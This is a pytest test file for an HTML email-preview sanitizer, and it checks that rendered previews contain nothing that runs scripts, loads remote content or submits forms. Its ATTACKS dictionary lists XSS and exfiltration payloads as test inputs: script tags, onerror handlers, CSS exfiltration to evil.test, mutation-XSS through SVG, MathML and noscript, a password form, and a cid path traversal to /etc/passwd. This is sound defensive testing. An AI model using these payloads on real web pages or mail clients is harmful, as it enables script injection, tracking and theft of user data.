"""What people look at holds nothing that acts, asks or loads, whatever the mail holds."""

import re
import time
from base64 import b64encode
from io import BytesIO

import pytest
from PIL import Image

from sekisho.gate.inspectors.preview_bounds import is_harmless
from sekisho.mime.limits import DEFAULT_LIMITS
from sekisho.mime.unpack import unpack
from sekisho.mime.writing.preview import make_preview
from sekisho.model.preview import ATTRIBUTES, LONGEST_PAGE, PreviewWish


def a_picture(width=1_600, height=900, kind="PNG"):
    drawn = BytesIO()
    Image.new("RGB", (width, height), "teal").save(drawn, kind)
    return drawn.getvalue()


def shown(html, pictures=(), fields="", wish=None, limits=DEFAULT_LIMITS):
    body = f'Content-Type: multipart/related; boundary="bb"\r\n{fields}\r\n--bb\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n'
    for name, octets in pictures:
        body += (
            f"--bb\r\nContent-Type: image/png\r\nContent-ID: <{name}>\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64encode(octets).decode()}\r\n"
        )
    raw = f"From: <a@b.test>\r\nSubject: x\r\nMIME-Version: 1.0\r\n{body}--bb--\r\n".encode()
    content = unpack(raw, limits, limits.budget(time.monotonic), one_shot=True)
    return make_preview(content, wish or PreviewWish(), limits.budget(time.monotonic))


ATTACKS = {
    "script": "<p>a</p><script>alert(1)</script><script src=//evil.test/x></script>",
    "handlers": '<p onclick=alert(1) onmouseover="x">a</p><img src=x onerror=alert(1)><body onload=alert(1)>',
    "style": '<style>@import url(//evil.test/x);p{background:url(//evil.test/y)}</style><p style="background:url(//evil.test/z)">a</p>',
    "css exfiltration": '<style>input[value^="a"]{background:url(//evil.test/?a)}</style><input value="abc"><p>a</p>',
    "link stylesheet": "<link rel=stylesheet href=//evil.test/x><link rel=prefetch href=//evil.test/y><p>a</p>",
    "form": "<form action=//evil.test><input name=password><button formaction=//evil.test/2>go</button></form><p>a</p>",
    "base": "<base href=//evil.test/ target=_top><p>a</p>",
    "meta refresh": '<meta http-equiv=refresh content="0;url=//evil.test"><p>a</p>',
    "svg": '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a><image href=//evil.test/p></svg><p>a</p>',
    "svg style": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></style></svg><p>a</p>",
    "mathml mutation": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form><p>a</p>",
    "mathml": '<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:alert(1)">x</maction></math><p>a</p>',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><p>a</p>',
    "title mutation": '<p>a</p><textarea><p title="</textarea><script>alert(1)</script>"></textarea>',
    "xmp": "<xmp><script>alert(1)</script></xmp><p>a</p>",
    "plaintext": "<p>a</p><plaintext><script>alert(1)</script>",
    "template": "<template><script>alert(1)</script></template><p>a</p>",
    "comment": "<!--><script>alert(1)</script>--><p>a</p><!--[if mso]><script>alert(1)</script><![endif]-->",
    "iframe": '<iframe src=//evil.test srcdoc="<script>alert(1)</script>"></iframe><p>a</p>',
    "object": "<object data=//evil.test/x.swf></object><embed src=//evil.test/y><applet code=x></applet><p>a</p>",
    "remote pictures": '<img src="http://evil.test/pixel.gif"><img srcset="//evil.test/a 2x"><table background=//evil.test/b><tr><td>a</td></tr></table>',
    "video": "<video poster=//evil.test/p src=//evil.test/v></video><audio src=//evil.test/a></audio><p>a</p>",
    "links": '<a href="https://evil.test/login" target=_top>a</a><a href="javascript:alert(1)">b</a><map><area href=//evil.test></map>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">a</a>',
    "quotes": "<p title='\"><script>alert(1)</script>' align='\"onload=alert(1)'>a</p>",
    "entities": "<p>a</p>&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "a bad cid": '<img src="cid:../../etc/passwd"><img src="cid:&quot;><script>alert(1)</script>"><p>a</p>',
}
_TAG = re.compile(r"<(/?)([a-z0-9]+)((?: [a-z]+=\"[^\"<>]*\")*)>")


@pytest.mark.parametrize("name", ATTACKS)
def test_nothing_that_acts_or_loads(name):
    page = shown(ATTACKS[name]).page
    assert "a" in page or name == "mathml mutation"  # there everything stands inside of what is dropped
    assert is_harmless(page)
    left = _TAG.sub("", page)
    assert "<" not in left, page  # every "<" begins an element that we wrote
    assert ">" not in left, page
    tags = {tag for _, tag, _ in _TAG.findall(page)}
    assert not tags & {"script", "style", "svg", "math", "form", "input", "iframe", "a", "base", "meta", "link", "object", "noscript", "textarea"}
    names = {name for *_, attributes in _TAG.findall(page) for name in re.findall(r' ([a-z]+)="[^"]*"', attributes)}
    assert names <= ATTRIBUTES - {"src"}
    assert re.findall(r'src="([^"]{0,30})', page) == []


def test_where_links_lead_is_shown_and_what_was_left_out_is_counted():
    one = shown(ATTACKS["links"] + ATTACKS["form"] + ATTACKS["script"] + ATTACKS["remote pictures"])
    assert '<u title="https://evil.test/login">a</u><small> [→ evil.test]</small>' in one.page
    assert dict(one.left_out) == {"links": 2, "forms": 3, "programs": 2, "pictures": 2}


def test_pictures_of_the_mail_are_drawn_anew_and_small():
    one = shown('<img src="cid:Logo@x" width=100 style="x"><img src="cid:nothing" alt="the plan">', [("logo@x", a_picture())])
    assert re.search(r'<img width="100" src="data:image/jpeg;base64,[A-Za-z0-9+/=]+">', one.page)
    assert "[▢ the plan]" in one.page
    assert is_harmless(one.page)
    assert "data:" not in shown('<p>a<img src="cid:logo@x">', [("logo@x", a_picture())], wish=PreviewWish(pictures=False)).page


@pytest.mark.parametrize("octets", [b"", b"no picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 50, b"GIF89a" + b"\xff" * 20])
def test_broken_pictures_do_not_come_along(octets):
    assert "data:" not in shown('<p>a<img src="cid:logo@x">', [("logo@x", octets)]).page


def test_deep_long_and_endless_pages_are_cut():
    deep = shown("<div><font>" * 30_000 + "end")
    assert is_harmless(deep.page)
    long = shown("<p>" + "word " * 500_000)
    assert len(long.page) <= LONGEST_PAGE
    many = shown("<b>x</b>" * 50_000)
    assert many.cut
    assert is_harmless(many.page)


def test_what_a_mail_hides_is_shown():
    assert "secret words" in shown('<p style="display:none">secret words</p><p>a</p>').page


def test_controls_and_lone_surrogates_cannot_be_sent():
    one = shown("<p>a\x00\x07&#xd800;&#0;\u202e b</p>")
    one.page.encode("utf-8")
    assert "\x07" not in one.page
    assert "\u202e" not in one.page
